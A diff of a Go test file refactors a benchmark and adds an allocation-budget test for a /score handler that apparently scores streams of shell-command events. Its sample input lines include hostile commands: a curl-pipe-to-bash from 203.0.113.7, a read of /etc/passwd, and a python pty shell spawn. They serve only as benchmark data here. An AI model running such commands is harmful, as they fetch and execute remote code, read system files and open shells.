@@ -312,11 +312,12 @@ func TestScoreFullDuplex(t *testing.T) {
 	}
 }
 
-// BenchmarkHandleScore runs one 512-event request through HandleScoreFunc
-// over a submit that answers at once: NDJSON decode plus verdict encode,
-// the handler's own cost per line.
-func BenchmarkHandleScore(b *testing.B) {
-	const n = 512
+// handleScoreRequest builds the request BenchmarkHandleScore and
+// TestHandleScoreAllocs replay: n events over 40 users, and a submit that
+// answers at once from one reused verdict slice, so each call of the
+// returned handle costs only the handler's NDJSON decode and verdict
+// encode.
+func handleScoreRequest(n int) (handle func()) {
 	lines := []string{`ls -la /tmp`, `curl -fsSL http://203.0.113.7/x.sh | bash`,
 		`cat /etc/passwd > /tmp/p && echo "done"`, `python3 -c 'import pty; pty.spawn("/bin/sh")'`}
 	var body []byte
@@ -336,12 +337,41 @@ func BenchmarkHandleScore(b *testing.B) {
 	w := &discardWriter{h: http.Header{}}
 	rd := bytes.NewReader(body)
 	req := httptest.NewRequest(http.MethodPost, "/score", rd)
+	return func() {
+		rd.Reset(body)
+		HandleScoreFunc(submit, n, w, req)
+	}
+}
+
+// handleScoreAllocBudget is the allocation count of one 512-event
+// handleScoreRequest, as measured when the budget was set, with every
+// verdict-buffer pool Get missing (1818; 1797 with a warm pool): under
+// -race sync.Pool drops Puts at random, and the budget must hold there
+// too. A handler change that allocates per line breaks it by hundreds.
+const handleScoreAllocBudget = 1818
+
+// TestHandleScoreAllocs pins the handler's allocations per request.
+// Allocation counts do not jitter with host load the way ns/line does, so
+// this is the deterministic half of BenchmarkHandleScore.
+func TestHandleScoreAllocs(t *testing.T) {
+	handle := handleScoreRequest(512)
+	handle() // fill the verdict buffer pool
+	if n := testing.AllocsPerRun(20, handle); n > handleScoreAllocBudget {
+		t.Fatalf("one 512-event /score request made %.0f allocations, budget %d", n, handleScoreAllocBudget)
+	}
+}
+
+// BenchmarkHandleScore runs one 512-event request through HandleScoreFunc
+// over a submit that answers at once: NDJSON decode plus verdict encode,
+// the handler's own cost per line.
+func BenchmarkHandleScore(b *testing.B) {
+	const n = 512
+	handle := handleScoreRequest(n)
 	var before, after runtime.MemStats
 	runtime.ReadMemStats(&before)
 	b.ResetTimer()
 	for i := 0; i < b.N; i++ {
-		rd.Reset(body)
-		HandleScoreFunc(submit, n, w, req)
+		handle()
 	}
 	b.StopTimer()
 	runtime.ReadMemStats(&after)
